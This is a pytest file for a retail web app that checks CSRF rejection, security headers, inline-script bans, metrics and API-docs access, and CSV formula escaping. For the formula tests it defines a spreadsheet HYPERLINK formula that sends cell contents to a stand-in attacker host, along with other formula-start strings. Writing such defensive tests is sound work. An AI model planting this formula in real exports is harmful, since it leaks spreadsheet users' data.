"""CSRF on every form, security headers on every response, safe CSV, metrics and API docs access."""

from __future__ import annotations

import csv
import io
import re
from datetime import UTC, datetime

import pytest
from sqlalchemy import select

from common.csvsafe import safe_cell
from common.web.headers import SECURITY_HEADERS
from demo.history import Item, apply, sale_payload
from head_office.models import Product
from tests.edge.conftest import CSRF_FIELD

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def _form_posts(app):
    for rule in app.url_map.iter_rules():
        if "POST" in rule.methods and not rule.rule.startswith(("/api/", "/sync/")):
            yield rule


def test_form_without_csrf_token_is_403_on_both_services(service):
    posts = list(_form_posts(service.app))
    assert posts, "every service has forms"
    for rule in posts:
        path = rule.rule.replace("<action>", "remove").replace("<string:step>", "approve")
        path = re.sub(r"<int:[^>]+>", "1", path)
        path = re.sub(r"<(?:[^:>]+:)?[^>]+>", "GRO-001", path)
        missing = service.page_client.post(path, data={"sku": "GRO-001", "qty": "1"})
        assert missing.status_code == 403, (service.name, path, missing.status_code)
        assert "expired" in missing.get_data(as_text=True)
        wrong = service.page_client.post(path, data={"sku": "GRO-001", "csrf_token": "forged"})
        assert wrong.status_code == 403, (service.name, path)
        as_json = service.page_client.post(path, data={"csrf_token": "forged"}, headers={"Accept": "application/json"})
        assert as_json.json["code"] == "csrf_failed"
    # The session's own token opens the door (the form still signs out fine).
    token = CSRF_FIELD.search(service.page_client.get("/login").get_data(as_text=True)).group(1)
    assert service.page_client.post("/logout", data={"csrf_token": token}).status_code in (302, 303)


def test_htmx_requests_send_the_token_in_a_header(store):
    page = store.page_client.get("/sell").get_data(as_text=True)
    assert '"X-CSRF-Token"' in page
    token = CSRF_FIELD.search(page).group(1)
    refused = store.page_client.post("/sell/clear", headers={"HX-Request": "true"})
    assert "expired" in refused.get_data(as_text=True)  # htmx shows the message in place of the page
    accepted = store.page_client.post("/sell/clear", headers={"HX-Request": "true", "X-CSRF-Token": token})
    assert accepted.status_code == 200 and "expired" not in accepted.get_data(as_text=True)


def test_api_calls_with_a_bearer_token_need_no_csrf_token(service):
    response = service.client.get("/api/v1/products", headers=service.api_headers)
    assert response.status_code == 200
    response = service.client.delete("/api/v1/session", headers=service.api_headers)
    assert response.status_code in (200, 204)


def test_every_page_sends_security_headers(service):
    client = service.page_client
    paths = ["/login", "/healthz", "/metrics", "/no-such-page", "/api/v1/stock", "/api/docs",
             "/vendor/swagger-ui/swagger-ui.css", "/stock"]
    paths += [rule.rule for rule in service.app.url_map.iter_rules()
              if "GET" in rule.methods and not rule.arguments and not rule.rule.startswith("/api/")]
    for path in paths:
        response = client.get(path, headers=service.api_headers)
        response.close()  # (a served file)
        for name, value in SECURITY_HEADERS.items():
            assert response.headers.get(name) == value, (service.name, path, name)
        assert "default-src 'self'" in response.headers["Content-Security-Policy"]
        assert "frame-ancestors 'none'" in response.headers["Content-Security-Policy"]


def test_pages_hold_no_inline_script_or_style(service):
    client = service.page_client
    paths = [rule.rule for rule in service.app.url_map.iter_rules()
             if "GET" in rule.methods and not rule.arguments and not rule.rule.startswith(("/api/", "/sync/"))
             and rule.endpoint not in ("metrics_page", "healthz")]
    paths += ["/api/docs", "/no-such-page"]
    checked = 0
    for path in paths:
        response = client.get(path, headers={**service.api_headers, "Accept": "text/html"})
        if response.mimetype != "text/html":
            continue
        html = response.get_data(as_text=True)
        checked += 1
        assert "<style" not in html, path
        assert " style=" not in html, path
        assert not re.search(r"<script(?![^>]*\bsrc=)[^>]*>", html), path
        assert not re.search(r"\son[a-z]+\s*=", html), path
    assert checked >= 3


def test_csv_cells_never_start_a_formula():
    assert safe_cell(FORMULA) == "'" + FORMULA
    for text in ("+1+2", "-cmd", "@SUM(A1)", "\tx", "\rx"):
        assert safe_cell(text) == "'" + text
    assert safe_cell("-12.50") == "-12.50" and safe_cell(-3) == -3 and safe_cell(4) == 4
    assert safe_cell("Dish soap") == "Dish soap"


@pytest.fixture
def formula_product_sold(head_office, demo_chain):
    milk = demo_chain.scalar(select(Product).where(Product.sku == "GRO-001"))
    milk.name = FORMULA
    apply(demo_chain, 2, "sale",
          sale_payload(2, "S02-000001", [Item.of(milk, 1)], datetime(2026, 3, 2, 15, tzinfo=UTC)))
    demo_chain.commit()
    return milk


def test_csv_export_neutralises_formulas(head_office, formula_product_sold):
    api = head_office.client.get("/api/v1/reports/sales.csv?from=2026-03-02&to=2026-03-02",
                                 headers=head_office.api_headers)
    console = head_office.page_client.get("/reports/sales.csv?from=2026-03-02&to=2026-03-02")
    for response in (api, console):
        assert response.status_code == 200
        rows = list(csv.reader(io.StringIO(response.get_data(as_text=True))))
        names = [row[4] for row in rows[1:]]
        assert "'" + FORMULA in names
        assert FORMULA not in names
        sold = next(row for row in rows[1:] if row[4] == "'" + FORMULA)
        assert sold[5] == "1" and sold[8] == "5.89"  # numbers stay numbers


@pytest.mark.parametrize("app_extra", [{"METRICS_TOKEN": "scrape-me"}])
def test_metrics_needs_the_token_when_set(app_extra, service):
    assert service.client.get("/metrics").status_code == 401
    assert service.client.get("/metrics").json["code"] == "unauthorized"
    wrong = service.client.get("/metrics", headers={"Authorization": "Bearer nope"})
    assert wrong.status_code == 401
    right = service.client.get("/metrics", headers={"Authorization": "Bearer scrape-me"})
    assert right.status_code == 200 and b"comptoir_http_requests_total" in right.data


def test_metrics_are_open_when_no_token_is_set(service):
    assert service.client.get("/metrics").status_code == 200


def test_api_docs_need_a_signed_in_user_by_default(service):
    anonymous = service.client
    for path in ("/api/docs", "/api/openapi.json"):
        assert anonymous.get(path).status_code == 401
        assert service.client.get(path, headers=service.api_headers).status_code == 200
        assert service.page_client.get(path).status_code == 200  # a signed-in browser


@pytest.mark.parametrize("app_extra", [{"PUBLIC_API_DOCS": True}])
def test_api_docs_are_public_when_configured(app_extra, service):
    assert service.client.get("/api/openapi.json").status_code == 200
    page = service.client.get("/api/docs")
    assert page.status_code == 200 and b"/assets/swagger-init.js" in page.data
    script = service.client.get("/assets/swagger-init.js")
    script.close()
    assert script.status_code == 200 and script.mimetype == "text/javascript"
